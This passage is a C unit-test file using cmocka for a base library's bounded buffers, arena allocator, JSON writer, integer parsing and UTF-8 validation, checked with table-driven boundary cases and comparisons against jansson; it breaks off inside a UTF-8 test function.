/*
 * test_base.c — unit tests for the libc-only base layer: bounded buffers,
 * the arena, the JSON writer (and that it escapes as jansson does, and
 * writes reals in their shortest exact form), bounded
 * integer parsing, UTF-8 validation,
 * base64url, RFC 3339 time, constant-time comparison, errors and the JSON
 * log line.  Limits are tested at max - 1, max and max + 1, parsers from
 * tables of cases, and every failure also checks that nothing was written.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <cmocka.h>
#include <jansson.h>

#include "base/arena.h"
#include "base/buf.h"
#include "base/csv.h"
#include "base/idset.h"
#include "base/jsonw.h"
#include "base/log.h"
#include "base/util.h"
#include "base/banned.h"

#define COUNT(a) (sizeof(a) / sizeof((a)[0]))

/* ---- buf ----------------------------------------------------------------- */

static void buf_limits(void **state)
{
	(void)state;
	struct buf b = BUF_INIT(8);
	assert_string_equal(buf_cstr(&b), "");
	assert_int_equal(buf_puts(&b, "1234567"), SW_OK);  /* max - 1 */
	assert_int_equal(buf_putc(&b, '8'), SW_OK);        /* max */
	assert_int_equal(buf_putc(&b, '9'), SW_ETOOLARGE); /* max + 1 */
	assert_string_equal(buf_cstr(&b), "12345678");
	assert_int_equal(b.len, 8);
	assert_true(b.cap <= b.max + 1); /* growth never passes max + NUL */
	assert_int_equal(buf_printf(&b, "%d", 1), SW_ETOOLARGE);
	assert_int_equal(buf_append(&b, "", 0), SW_OK); /* nothing more is fine at max */
	assert_string_equal(buf_cstr(&b), "12345678");
	buf_release(&b);
	assert_null(b.ptr);
	assert_int_equal(b.max, 8); /* kept */

	/* byte by byte (small appends into room already there take a shorter
	 * path): the same limit, to the byte */
	struct buf big = BUF_INIT(1000);
	for (int i = 0; i < 1000; i++)
		assert_int_equal(buf_putc(&big, (char)('a' + i % 26)), SW_OK);
	assert_int_equal(buf_putc(&big, 'x'), SW_ETOOLARGE);
	assert_int_equal(buf_append(&big, NULL, 0), SW_OK);
	assert_int_equal(big.len, 1000);
	assert_true(big.cap <= big.max + 1);
	assert_int_equal(big.ptr[1000], 0);
	assert_int_equal(big.ptr[999], 'a' + 999 % 26);
	buf_reset(&big);
	assert_int_equal(buf_append(&big, "ab", 2), SW_OK); /* memory kept: the short path */
	assert_string_equal(buf_cstr(&big), "ab");
	buf_release(&big);
}

static void buf_unchanged_on_failure(void **state)
{
	(void)state;
	struct buf b = BUF_INIT(8);
	assert_int_equal(buf_puts(&b, "1234567"), SW_OK);
	/* a multi-byte append crossing max is refused whole, not cut */
	assert_int_equal(buf_append(&b, "ab", 2), SW_ETOOLARGE);
	assert_int_equal(buf_printf(&b, "%s", "ab"), SW_ETOOLARGE);
	assert_int_equal(buf_puts(&b, "a very long string"), SW_ETOOLARGE);
	assert_int_equal(b.len, 7);
	assert_memory_equal(b.ptr, "1234567", 8);           /* NUL still in place */
	assert_int_equal(buf_printf(&b, "%c", 'x'), SW_OK); /* exactly max */
	assert_string_equal(buf_cstr(&b), "1234567x");
	buf_release(&b);

	struct buf zero = BUF_INIT(0);
	assert_int_equal(buf_puts(&zero, ""), SW_OK);
	assert_int_equal(buf_putc(&zero, 'a'), SW_ETOOLARGE);
	assert_string_equal(buf_cstr(&zero), "");
	assert_int_equal(zero.len, 0);
	buf_release(&zero);
}

static void buf_lifecycle(void **state)
{
	(void)state;
	struct buf b;
	buf_init(&b, 16);
	assert_int_equal(buf_printf(&b, "%s-%d", "ab", 42), SW_OK);
	assert_string_equal(buf_cstr(&b), "ab-42");
	buf_reset(&b);
	assert_string_equal(buf_cstr(&b), "");
	assert_non_null(b.ptr); /* memory kept */
	assert_int_equal(buf_puts(&b, "xyz"), SW_OK);
	size_t len = 99;
	char *p = buf_detach(&b, &len);
	assert_string_equal(p, "xyz");
	assert_int_equal(len, 3);
	assert_null(b.ptr);
	assert_int_equal(b.len, 0);
	assert_int_equal(b.max, 16);
	free(p);
	p = buf_detach(&b, &len); /* never allocated: still a string to free */
	assert_non_null(p);
	assert_string_equal(p, "");
	assert_int_equal(len, 0);
	free(p);
	buf_release(&b);
	buf_release(&b); /* twice is fine */
	buf_release(NULL);

	/* geometric growth: many appends, capacity within a factor 2 of need */
	struct buf big = BUF_INIT(1 << 20);
	for (int i = 0; i < 10000; i++)
		assert_int_equal(buf_append(&big, "0123456789", 10), SW_OK);
	assert_int_equal(big.len, 100000);
	assert_true(big.cap >= big.len + 1 && big.cap <= 2 * (big.len + 1));
	assert_int_equal(buf_cstr(&big)[99999], '9');
	assert_int_equal(buf_cstr(&big)[100000], 0);
	buf_release(&big);

	/* the largest possible max must not wrap the capacity clamp */
	struct buf huge = BUF_INIT(SIZE_MAX);
	assert_int_equal(buf_puts(&huge, "abc"), SW_OK);
	assert_string_equal(buf_cstr(&huge), "abc");
	assert_int_equal(buf_append(&huge, "x", SIZE_MAX), SW_ETOOLARGE);
	assert_string_equal(buf_cstr(&huge), "abc");
	buf_release(&huge);
}

/* ---- arena --------------------------------------------------------------- */

static void arena_cap(void **state)
{
	(void)state;
	struct arena a;
	arena_init(&a, 200 * 1024);
	char *s = arena_strdup(&a, "hello");
	assert_string_equal(s, "hello");
	assert_null(arena_strdup(&a, NULL));
	assert_null(arena_strndup(&a, NULL, 3));
	assert_string_equal(arena_strndup(&a, "abcdef", 3), "abc");
	assert_string_equal(arena_printf(&a, "%s=%d", "x", 7), "x=7");
	assert_non_null(arena_alloc(&a, 100 * 1024));
	assert_true(a.used <= a.max);
	assert_null(arena_alloc(&a, 150 * 1024)); /* would pass the cap */
	assert_string_equal(s, "hello");          /* earlier memory intact */
	assert_non_null(arena_alloc(&a, 16));     /* a refused request changes nothing */
	arena_release(&a);
	assert_int_equal(a.used, 0);
	assert_non_null(arena_alloc(&a, 150 * 1024)); /* reusable after release */
	arena_release(&a);
	arena_release(&a);
	arena_release(NULL);

	/* sizes that would overflow the rounding or the block header */
	arena_init(&a, SIZE_MAX);
	assert_null(arena_alloc(&a, SIZE_MAX));
	assert_null(arena_alloc(&a, SIZE_MAX - 15));
	assert_null(arena_alloc(&a, SIZE_MAX - 32));
	assert_null(arena_strndup(&a, "x", SIZE_MAX));
	assert_int_equal(a.used, 0);
	assert_string_equal(arena_strdup(&a, "still fine"), "still fine");
	arena_release(&a);
}

/* The cap is on total bytes: a small arena works and can be filled to it. */
static void arena_small_cap(void **state)
{
	(void)state;
	struct arena a;
	arena_init(&a, 1000);
	size_t got = 0;
	while (arena_alloc(&a, 16))
		got += 16;
	assert_true(a.used <= 1000);
	assert_true(got >= 1000 - 64); /* only a block header lost */
	assert_null(arena_alloc(&a, 1));
	arena_release(&a);
	arena_init(&a, 1000);
	assert_null(arena_alloc(&a, 1000)); /* plus the header, over the cap */
	assert_non_null(arena_alloc(&a, 900));
	arena_release(&a);
	arena_init(&a, 0);
	assert_null(arena_alloc(&a, 0));
	arena_release(&a);
}

/* What is deferred runs at release, the last first, once; a full arena
 * refuses to defer (and then never calls). */
static int defer_log[8], defer_count;
static void defer_note(void *arg)
{
	if (defer_count < 8)
		defer_log[defer_count++] = *(int *)arg;
}

static void arena_defers(void **state)
{
	(void)state;
	static int one = 1, two = 2, three = 3;
	struct arena a;
	arena_init(&a, 1 << 20);
	defer_count = 0;
	assert_int_equal(arena_defer(&a, defer_note, &one), 0);
	assert_int_equal(arena_defer(&a, defer_note, &two), 0);
	assert_int_equal(defer_count, 0);
	arena_release(&a);
	assert_int_equal(defer_count, 2);
	assert_int_equal(defer_log[0], 2);
	assert_int_equal(defer_log[1], 1);
	arena_release(&a); /* released again: nothing runs twice */
	assert_int_equal(defer_count, 2);
	assert_int_equal(arena_defer(&a, defer_note, &three), 0); /* reusable after release */
	arena_release(&a);
	assert_int_equal(defer_count, 3);
	assert_int_equal(defer_log[2], 3);
	arena_init(&a, 0);
	assert_int_equal(arena_defer(&a, defer_note, &one), -1);
	arena_release(&a);
	assert_int_equal(defer_count, 3);
}

static void arena_alignment_and_zero(void **state)
{
	(void)state;
	struct arena a;
	arena_init(&a, 1 << 20);
	for (size_t n = 0; n <= 100; n++) {
		unsigned char *p = arena_alloc(&a, n);
		assert_non_null(p);
		assert_int_equal((uintptr_t)p % 16, 0);
		for (size_t i = 0; i < n; i++)
			assert_int_equal(p[i], 0);
		memset(p, 0xa5, n); /* dirty it for the round after release */
	}
	arena_release(&a);
	unsigned char *z = arena_alloc(&a, 4096);
	for (size_t i = 0; i < 4096; i++)
		assert_int_equal(z[i], 0);
	arena_release(&a);

	/* a large allocation gets its own block; the current block stays in use */
	arena_init(&a, 1 << 20);
	char *p1 = arena_alloc(&a, 16);
	size_t used = a.used;
	char *big = arena_alloc(&a, 100 * 1024);
	assert_non_null(big);
	assert_int_equal((uintptr_t)big % 16, 0);
	big[100 * 1024 - 1] = 1;
	char *p2 = arena_alloc(&a, 16);
	assert_ptr_equal(p2, p1 + 16);
	assert_true(a.used > used + 100 * 1024);
	char *s = arena_printf(&a, "%0*d", 70000, 5); /* longer than a block */
	assert_non_null(s);
	assert_int_equal(strlen(s), 70000);
	assert_int_equal(s[69999], '5');
	arena_release(&a);
}

/* ---- jsonw --------------------------------------------------------------- */

static void json_writer(void **state)
{
	(void)state;
	struct buf b = BUF_INIT(4096);
	struct jsonw w;
	jsonw_init(&w, &b);
	jsonw_obj_open(&w);
	jsonw_kstr(&w, "s", "q\"b\\s\n\x01");
	jsonw_kint(&w, "n", INT64_MIN);
	jsonw_kint(&w, "m", INT64_MAX);
	jsonw_kbool(&w, "t", true);
	jsonw_kbool(&w, "f", false);
	jsonw_key(&w, "a");
	jsonw_arr_open(&w);
	jsonw_int(&w, 1);
	jsonw_null(&w);
	jsonw_str(&w, NULL);
	jsonw_obj_open(&w);
	jsonw_obj_close(&w);
	jsonw_arr_close(&w);
	jsonw_key(&w, "raw");
	jsonw_raw(&w, "[true]");
	jsonw_key(&w, "rawnull");
	jsonw_raw(&w, NULL);
	jsonw_kstr(&w, NULL, "k");
	jsonw_kstr(&w, "utf8", "\xc3\xa9\xe2\x82\xac\xf0\x9f\x98\x80");
	jsonw_kstr(&w, "bad",
		   "a\xff"
		   "b\xc0\xaf"
		   "c\xed\xa0\x80");
	jsonw_obj_close(&w);
	assert_int_equal(w.err, SW_OK);
	assert_int_equal(w.depth, 0);
	assert_string_equal(buf_cstr(&b),
			    "{\"s\":\"q\\\"b\\\\s\\n\\u0001\",\"n\":-9223372036854775808,\"m\":9223372036854775807,"
			    "\"t\":true,\"f\":false,\"a\":[1,null,null,{}],\"raw\":[true],\"rawnull\":null,\"\":\"k\","
			    "\"utf8\":\"\xc3\xa9\xe2\x82\xac\xf0\x9f\x98\x80\","
			    "\"bad\":\"a\\ufffdb\\ufffd\\ufffdc\\ufffd\\ufffd\\ufffd\"}");
	buf_release(&b);
}

/* Reals: the shortest of 15, 16 or 17 significant digits that reads back
 * as the same double (issue #12: 99.9 was written 99.900000000000006). */
/* Short plain strings and keys go out in one piece with their separator
 * (jsonw.c put_plain); at the length limit, past it, and with one byte to
 * escape, the answer must be the same JSON. */
static void json_writer_plain(void **state)
{
	(void)state;
	char s120[121], s121[122], q120[121];
	memset(s120, 'a', 120);
	s120[120] = 0;
	memset(s121, 'b', 121);
	s121[121] = 0;
	memcpy(q120, s120, sizeof(q120));
	q120[119] = '"';
	struct buf b = BUF_INIT(4096);
	struct jsonw w;
	jsonw_init(&w, &b);
	jsonw_obj_open(&w);
	jsonw_kstr(&w, s120, s121);
	jsonw_kstr(&w, "k\"", q120);
	jsonw_key(&w, "arr");
	jsonw_arr_open(&w);
	jsonw_str(&w, "");
	jsonw_str(&w, "x");
	jsonw_str(&w, "caf\xc3\xa9");
	jsonw_arr_close(&w);
	jsonw_obj_close(&w);
	assert_int_equal(w.err, SW_OK);
	char want[1024];
	snprintf(want, sizeof(want), "{\"%s\":\"%s\",\"k\\\"\":\"%.119s\\\"\",\"arr\":[\"\",\"x\",\"caf\xc3\xa9\"]}",
		 s120, s121, s120);
	assert_string_equal(buf_cstr(&b), want);
	buf_release(&b);
}

static void json_reals(void **state)
{
	(void)state;
	static const struct {
		double v;
		const char *want;
	} cases[] = {
		{99.9, "99.9"},
		{0.999, "0.999"},
		{0.1 + 0.2, "0.30000000000000004"},
		{2.0 / 3.0, "0.6666666666666666"},
		{1.0, "1.0"},
		{100.0, "100.0"},
		{-0.0, "-0.0"},
		{-2.5, "-2.5"},
		{1e300, "1e+300"},
		{123456789012345680.0, "1.2345678901234568e+17"},
		{0.1, "0.1"},
	};
	char out[FORMAT_DOUBLE_MAX];
	for (size_t i = 0; i < COUNT(cases); i++) {
		size_t n = format_double(cases[i].v, out);
		assert_string_equal(out, cases[i].want);
		assert_int_equal(n, strlen(cases[i].want));
	}
	/* what the API divides: hundredths (availability targets) and
	 * thousandths (availability) come out as their short decimal */
	for (int k = 0; k <= 100000; k++) {
		char want[32];
		if (k % 1000 == 0)
			snprintf(want, sizeof(want), "%d.0", k / 1000);
		else if (k % 100 == 0)
			snprintf(want, sizeof(want), "%d.%d", k / 1000, k % 1000 / 100);
		else if (k % 10 == 0)
			snprintf(want, sizeof(want), "%d.%02d", k / 1000, k % 1000 / 10);
		else
			snprintf(want, sizeof(want), "%d.%03d", k / 1000, k % 1000);
		format_double(k / 1000.0, out);
		assert_string_equal(out, want);
	}
	/* any bit pattern: reads back exactly (here and through jansson), and
	 * no shorter precision of the three would have */
	uint64_t x = 88172645463325252u;
	for (int i = 0; i < 200000; i++) {
		x ^= x << 13;
		x ^= x >> 7;
		x ^= x << 17;
		double v;
		memcpy(&v, &x, sizeof(v));
		size_t n = format_double(v, out);
		if (v != v || v - v != 0) { /* NaN, infinity */
			assert_int_equal(n, 0);
			continue;
		}
		assert_true(n > 0 && n < FORMAT_DOUBLE_MAX);
		assert_true(strtod(out, NULL) == v);
		json_t *j = json_loads(out, JSON_DECODE_ANY, NULL);
		assert_non_null(j);
		assert_true(json_is_real(j) && json_real_value(j) == v);
		json_decref(j);
		char shorter[40];
		int digits = 0; /* significant: from the first non-zero digit, without the ".0" added */
		size_t end = n > 2 && strcmp(out + n - 2, ".0") == 0 ? n - 2 : n;
		for (size_t k = 0; k < end && out[k] != 'e'; k++)
			digits += (out[k] >= '1' && out[k] <= '9') || (out[k] == '0' && digits);
		if (digits > 15 && digits <= 17) {
			snprintf(shorter, sizeof(shorter), "%.*g", digits - 1, v);
			assert_false(strtod(shorter, NULL) == v);
		}
	}
	/* in the writer; no number for what JSON cannot say */
	struct buf b = BUF_INIT(256);
	struct jsonw w;
	jsonw_init(&w, &b);
	jsonw_arr_open(&w);
	jsonw_real(&w, 99.9);
	jsonw_real(&w, 1.0 / 0.0);
	jsonw_real(&w, 0.0 / 0.0);
	jsonw_real(&w, 0.25);
	jsonw_arr_close(&w);
	assert_int_equal(w.err, SW_OK);
	assert_string_equal(buf_cstr(&b), "[99.9,null,null,0.25]");
	buf_release(&b);
}

static void json_nesting(void **state)
{
	(void)state;
	struct buf b = BUF_INIT(4096);
	struct jsonw w;
	jsonw_init(&w, &b);
	jsonw_arr_open(&w);
	jsonw_arr_open(&w);
	jsonw_int(&w, 1);
	jsonw_int(&w, 2);
	jsonw_arr_close(&w);
	jsonw_arr_open(&w);
	jsonw_int(&w, 3);
	jsonw_arr_open(&w);
	jsonw_arr_close(&w);
	jsonw_arr_close(&w);
	jsonw_obj_open(&w);
	jsonw_key(&w, "a");
	jsonw_obj_open(&w);
	jsonw_key(&w, "b");
	jsonw_arr_open(&w);
	jsonw_bool(&w, true);
	jsonw_bool(&w, false);
	jsonw_arr_close(&w);
	jsonw_kint(&w, "c", 0);
	jsonw_obj_close(&w);
	jsonw_kstr(&w, "d", "");
	jsonw_obj_close(&w);
	jsonw_str(&w, "end");
	jsonw_arr_close(&w);
	assert_int_equal(w.err, SW_OK);
	assert_string_equal(buf_cstr(&b), "[[1,2],[3,[]],{\"a\":{\"b\":[true,false],\"c\":0},\"d\":\"\"},\"end\"]");

	/* a top-level scalar */
	buf_reset(&b);
	jsonw_init(&w, &b);
	jsonw_strn(&w, "a\0b", 3);
	assert_int_equal(w.err, SW_OK);
	assert_string_equal(buf_cstr(&b), "\"a\\u0000b\"");

	/* JSONW_DEPTH_MAX levels are fine, one more is refused */
	buf_reset(&b);
	jsonw_init(&w, &b);
	for (int i = 0; i < JSONW_DEPTH_MAX; i++)
		jsonw_arr_open(&w);
	assert_int_equal(w.err, SW_OK);
	for (int i = 0; i < JSONW_DEPTH_MAX; i++)
		jsonw_arr_close(&w);
	assert_int_equal(w.err, SW_OK);
	assert_int_equal(b.len, 2 * JSONW_DEPTH_MAX);
	buf_reset(&b);
	jsonw_init(&w, &b);
	for (int i = 0; i < JSONW_DEPTH_MAX + 1; i++)
		jsonw_arr_open(&w);
	assert_int_equal(w.err, SW_ETOOLARGE);
	assert_int_equal(b.len, JSONW_DEPTH_MAX);

	/* closing more than was opened */
	buf_reset(&b);
	jsonw_init(&w, &b);
	jsonw_obj_open(&w);
	jsonw_obj_close(&w);
	jsonw_obj_close(&w);
	assert_int_equal(w.err, SW_EINTERNAL);
	assert_string_equal(buf_cstr(&b), "{}");
	buf_release(&b);

	/* buffer full: the error is sticky and nothing more is appended */
	struct buf small = BUF_INIT(4);
	jsonw_init(&w, &small);
	jsonw_str(&w, "too long");
	assert_int_equal(w.err, SW_ETOOLARGE);
	size_t len = small.len;
	jsonw_int(&w, 1);
	jsonw_null(&w);
	assert_int_equal(w.err, SW_ETOOLARGE);
	assert_int_equal(small.len, len);
	buf_release(&small);
}

static void json_escaping(void **state)
{
	(void)state;
	struct buf b = BUF_INIT(256);
	char in[2] = {0, 0}, want[16];
	for (int c = 0; c < 0x20; c++) {
		in[0] = (char)c;
		if (c == '\b')
			snprintf(want, sizeof(want), "\\b");
		else if (c == '\f')
			snprintf(want, sizeof(want), "\\f");
		else if (c == '\n')
			snprintf(want, sizeof(want), "\\n");
		else if (c == '\r')
			snprintf(want, sizeof(want), "\\r");
		else if (c == '\t')
			snprintf(want, sizeof(want), "\\t");
		else
			snprintf(want, sizeof(want), "\\u%04X", (unsigned)c); /* upper case, as jansson */
		buf_reset(&b);
		assert_int_equal(json_escape_into(&b, in, 1), SW_OK);
		assert_string_equal(buf_cstr(&b), want);
	}
	static const struct {
		const char *in;
		const char *want;
	} cases[] = {
		{"plain", "plain"},
		{"\"", "\\\""},
		{"\\", "\\\\"},
		{"/", "/"},                       /* optional in RFC 8259; left alone */
		{"\x7f", "\x7f"},                 /* DEL is not a control character for JSON */
		{"<a&b>", "<a&b>"},               /* no HTML escaping */
		{"\xe2\x80\xa8", "\xe2\x80\xa8"}, /* U+2028 is valid JSON */
		{"\xef\xbf\xbd", "\xef\xbf\xbd"}, /* a real U+FFFD is kept as is */
		{"\x80", "\\ufffd"},
		{"\xf0\x9f\x98", "\\ufffd\\ufffd\\ufffd"},   /* truncated at the end */
		{"\xf0\x9f\x98z", "\\ufffd\\ufffd\\ufffdz"}, /* cut by an ASCII byte */
		{"\xf4\x90\x80\x80", "\\ufffd\\ufffd\\ufffd\\ufffd"},
		{"x\xc3\xa9\xc3", "x\xc3\xa9\\ufffd"},
	};
	for (size_t i = 0; i < COUNT(cases); i++) {
		buf_reset(&b);
		assert_int_equal(json_escape_into(&b, cases[i].in, strlen(cases[i].in)), SW_OK);
		assert_string_equal(buf_cstr(&b), cases[i].want);
		assert_true(utf8_valid(b.ptr, b.len)); /* output is always valid UTF-8 */
	}
	/* refused whole when the escaped form does not fit: nothing partial */
	struct buf tiny = BUF_INIT(5);
	assert_int_equal(json_escape_into(&tiny, "\x01", 1), SW_ETOOLARGE);
	assert_int_equal(tiny.len, 0);
	buf_release(&tiny);
	buf_release(&b);
}

/* UTF-8 for code point cp into out (4 bytes at most); its length. */
static size_t utf8_put(uint32_t cp, char *out)
{
	if (cp < 0x80) {
		out[0] = (char)cp;
		return 1;
	}
	if (cp < 0x800) {
		out[0] = (char)(0xc0 | (cp >> 6));
		out[1] = (char)(0x80 | (cp & 0x3f));
		return 2;
	}
	if (cp < 0x10000) {
		out[0] = (char)(0xe0 | (cp >> 12));
		out[1] = (char)(0x80 | ((cp >> 6) & 0x3f));
		out[2] = (char)(0x80 | (cp & 0x3f));
		return 3;
	}
	out[0] = (char)(0xf0 | (cp >> 18));
	out[1] = (char)(0x80 | ((cp >> 12) & 0x3f));
	out[2] = (char)(0x80 | ((cp >> 6) & 0x3f));
	out[3] = (char)(0x80 | (cp & 0x3f));
	return 4;
}

/* s (len bytes) as a JSON string by jsonw and by jansson; both must agree. */
static void same_as_jansson(struct buf *b, const char *s, size_t len)
{
	json_t *j = json_stringn(s, len);
	assert_non_null(j); /* valid UTF-8 */
	char *want = json_dumps(j, JSON_ENCODE_ANY | JSON_COMPACT);
	json_decref(j);
	assert_non_null(want);
	buf_reset(b);
	struct jsonw w;
	jsonw_init(&w, b);
	jsonw_strn(&w, s, len);
	assert_int_equal(w.err, SW_OK);
	assert_string_equal(buf_cstr(b), want);
	free(want);
}

/* Valid UTF-8 comes out of jsonw byte for byte as jansson's json_dumps
 * (without JSON_ENSURE_ASCII) writes it — every ASCII byte including NUL,
 * and every other code point — so the incident answers (jsonw) read like
 * the rest (jansson).  Invalid UTF-8, which jansson refuses, is
 * json_escaping's business. */
static void json_escaping_matches_jansson(void **state)
{
	(void)state;
	struct buf b = BUF_INIT(64 * 1024);
	for (int c = 0; c < 0x80; c++) {
		char one[3] = {'a', (char)c, 'z'};
		same_as_jansson(&b, one + 1, 1);
		same_as_jansson(&b, one, 3);
	}
	/* all of 0x80..0x10FFFF but the surrogates, 1024 code points at a time */
	char chunk[1024 * 4 + 8];
	size_t n = 0, count = 0;
	for (uint32_t cp = 0x80; cp <= 0x10ffff; cp++) {
		if (cp >= 0xd800 && cp <= 0xdfff)
			continue;
		n += utf8_put(cp, chunk + n);
		if (++count % 1024 == 0 || cp == 0x10ffff) {
			same_as_jansson(&b, chunk, n);
			n = 0;
		}
	}
	/* mixed: controls between multi-byte characters, U+2028, U+FFFD, quotes */
	static const char mixed[] = "\x01\xc3\xa9\"\x1f\xe2\x80\xa8\\\x7f\xf0\x9f\x98\x80\b\f\n\r\t\xef\xbf\xbd/";
	same_as_jansson(&b, mixed, sizeof(mixed) - 1);
	/* plain text is tested eight bytes at a time: one byte to escape (or
	 * not: space, DEL, '~', '!', '#', '[', ']') at every place of a run
	 * longer than two words, the run cut at every length */
	static const char *const odd[] = {
		"\x01", "\x1f", "\"", "\\", "\xc3\xa9", "\xe2\x80\xa8", "\xf0\x9f\x98\x80", " ", "\x7f",
		"~",    "!",    "#",  "[",  "]"};
	for (size_t k = 0; k < COUNT(odd); k++) {
		for (size_t at = 0; at <= 24; at++) {
			char text[64];
			size_t olen = strlen(odd[k]);
			memset(text, 'a', sizeof(text));
			memcpy(text + at, odd[k], olen);
			for (size_t cut = at + olen; cut <= 32; cut++)
				same_as_jansson(&b, text, cut);
		}
	}
	buf_release(&b);
}

/* jsonw_int writes its digits by hand: the same as printf's %lld. */
static void json_integers(void **state)
{
	(void)state;
	static const int64_t cases[] = {0,
					1,
					-1,
					9,
					10,
					-10,
					99,
					100,
					12345,
					-67890,
					INT32_MAX,
					INT32_MIN,
					INT64_MAX,
					INT64_MIN,
					INT64_MIN + 1,
					INT64_MAX - 1,
					1000000000000000000};
	struct buf b = BUF_INIT(64);
	for (size_t i = 0; i < COUNT(cases); i++) {
		char want[32];
		snprintf(want, sizeof(want), "%lld", (long long)cases[i]);
		buf_reset(&b);
		struct jsonw w;
		jsonw_init(&w, &b);
		jsonw_int(&w, cases[i]);
		assert_int_equal(w.err, SW_OK);
		assert_string_equal(buf_cstr(&b), want);
	}
	buf_release(&b);
}

/* ---- parse_int64 --------------------------------------------------------- */

static void int_parsing(void **state)
{
	(void)state;
	/* Leading zeros are accepted ("007" is 7) within the 20-byte bound. */
	static const struct {
		const char *s;
		int64_t min, max;
		enum sw_err rc;
		int64_t want;
	} cases[] = {
		{"0", 0, 10, SW_OK, 0},
		{"9", 0, 10, SW_OK, 9},        /* max - 1 */
		{"10", 0, 10, SW_OK, 10},      /* max */
		{"11", 0, 10, SW_EINVALID, 0}, /* max + 1 */
		{"-1", 0, 10, SW_EINVALID, 0}, /* min - 1 */
		{"-1", -5, 10, SW_OK, -1},
		{"-5", -5, 10, SW_OK, -5},
		{"-6", -5, 10, SW_EINVALID, 0},
		{"-0", 0, 0, SW_OK, 0},
		{"007", 0, 10, SW_OK, 7},
		{"-007", -10, 10, SW_OK, -7},
		{"00000000000000000001", 0, 10, SW_OK, 1},        /* 20 bytes */
		{"000000000000000000001", 0, 10, SW_EINVALID, 0}, /* 21 bytes */
		{"9223372036854775807", INT64_MIN, INT64_MAX, SW_OK, INT64_MAX},
		{"9223372036854775808", INT64_MIN, INT64_MAX, SW_EINVALID, 0},
		{"9223372036854775810", INT64_MIN, INT64_MAX, SW_EINVALID, 0},
		{"-9223372036854775808", INT64_MIN, INT64_MAX, SW_OK, INT64_MIN},
		{"-9223372036854775809", INT64_MIN, INT64_MAX, SW_EINVALID, 0},
		{"-9223372036854775808", INT64_MIN + 1, INT64_MAX, SW_EINVALID, 0},
		{"18446744073709551616", INT64_MIN, INT64_MAX, SW_EINVALID, 0}, /* 2^64 wraps to 0 */
		{"99999999999999999999", INT64_MIN, INT64_MAX, SW_EINVALID, 0},
		{"", 0, 10, SW_EINVALID, 0},
		{"-", -10, 10, SW_EINVALID, 0},
		{"--1", -10, 10, SW_EINVALID, 0},
		{"-+1", -10, 10, SW_EINVALID, 0},
		{"+1", 0, 10, SW_EINVALID, 0},
		{" 1", 0, 10, SW_EINVALID, 0},
		{"1 ", 0, 10, SW_EINVALID, 0},
		{"1\n", 0, 10, SW_EINVALID, 0},
		{"1-", 0, 10, SW_EINVALID, 0},
		{"1e3", 0, 10000, SW_EINVALID, 0},
		{"1.0", 0, 10, SW_EINVALID, 0},
		{"0x10", 0, 100, SW_EINVALID, 0},
		{"\xd9\xa3", 0, 10, SW_EINVALID, 0}, /* ARABIC-INDIC DIGIT THREE */
		{"5", 10, 0, SW_EINVALID, 0},        /* empty range */
	};
	for (size_t i = 0; i < COUNT(cases); i++) {
		int64_t out = 12345;
		enum sw_err rc = parse_int64(cases[i].s, strlen(cases[i].s), cases[i].min, cases[i].max, &out);
		if (rc != cases[i].rc)
			fail_msg("parse_int64(\"%s\") returned %d", cases[i].s, (int)rc);
		if (rc)
			assert_int_equal(out, 12345); /* untouched on failure */
		else
			assert_int_equal(out, cases[i].want);
	}
	int64_t out = 5;
	assert_int_equal(parse_int64("123", 2, 0, 100, &out), SW_OK); /* only len bytes count */
	assert_int_equal(out, 12);
	static const char nul_inside[] = {'1', 0, '2'};
	assert_int_equal(parse_int64(nul_inside, sizeof(nul_inside), 0, 100, &out), SW_EINVALID);
	assert_int_equal(parse_int64(NULL, 0, 0, 100, &out), SW_EINVALID);
	assert_int_equal(out, 12);
}

/* ---- UTF-8 --------------------------------------------------------------- */

static const struct {
	const char *s;
	size_t len;
	bool ok;
} utf8_cases[] = {
	{"", 0, true},
	{"plain ascii", 11, true},
	{"\xc2\x80", 2, true}, /* U+0080, smallest 2-byte */
	{"\xc3\xa9", 2, true},
	{"\xe0\xa0\x80", 3, true},      /* U+0800, smallest 3-byte */
	{"\xed\x9f\xbf", 3, true},      /* U+D7FF, just below the surrogates */
	{"\xee\x80\x80", 3, true},      /* U+E000, just above */
	{"\xef\xbf\xbf", 3, true},      /* U+FFFF */
	{"\xf0\x90\x80\x80", 4, true},  /* U+10000, smallest 4-byte */
	{"\xf0\x9f\x98\x80", 4, true},  /* valid 4-byte */
	{"\xf4\x8f\xbf\xbf", 4, true},  /* U+10FFFF */
	{"\xc0\x80", 2, false},         /* overlong NUL */
	{"\xc1\xbf", 2, false},         /* overlong */
	{"\xe0\x80\xaf", 3, false},     /* overlong */
	{"\xe0\x9f\xbf", 3, false},     /* overlong U+07FF */
	{"\xf0\x8f\xbf\xbf", 4, false}, /* overlong U+FFFF */
	{"\xed\xa0\x80", 3, false},     /* surrogate U+D800 */
	{"\xed\xbf\xbf", 3, false},     /* surrogate U+DFFF */
	{"\xf4\x90\x80\x80", 4, false}, /* U+110000 */
	{"\xf5\x80\x80\x80", 4, false}, /* lead byte past U+10FFFF */
	{"\xc3", 1, false},             /* truncated */
	{"\xe2\x82", 2, false},         /* truncated */
	{"\xf0\x9f\x98", 3, false},     /* truncated */
	{"\xf0\x9f\x98"
	 "a",
	 4, false},          /* continuation missing */
	{"a\xc3", 2, false}, /* truncated at the end */
	{"a\0b", 3, false},  /* NUL */
	{"\0", 1, false},    /* NUL */
	{"\x80", 1, false},  /* stray continuation */
	{"\xbf", 1, false},
	{"\xfe", 1, false},
	{"\xff", 1, false},
};

static void utf8(void **state)
{
	(void)state;
	for (size_t i = 0; i < COUNT(utf8_cases); i++)
		if (utf8_valid(utf8_cases[i].s, utf8_cases[i].len) != utf8_cases[i].ok)
			fail_msg("utf8 case %zu: expected %d", i, utf8_cases[i].ok);
	assert_int_equal(utf8_count("a\xc3\xa9\xf0\x9f\x98\x80", 7), 3);
	assert_int_equal(utf8_count("", 0), 0);
	assert_int_equal(utf8_seq_len("", 0), 0);
	assert_int_equal(utf8_seq_len("\0", 1), 1);
	assert_int_equal(utf8_seq_len("\xe2\x82\xac", 3), 3);
	assert_int_equal(utf8_seq_len("\xe2\x82\xac", 2), 0); /* len bounds the read */
	assert_int_equal(utf8_seq_len("\xf0\x9f\x98\x80xyz", 7), 4);
}

/* The JSON writer and the validator share one notion of valid UTF-8. */
static void utf8_matches_json(void **state)
{
	(void)state;
	struct buf b = BUF_INIT(256);
	for (size_t i = 0; i < COUNT(utf8_cases); i++) {
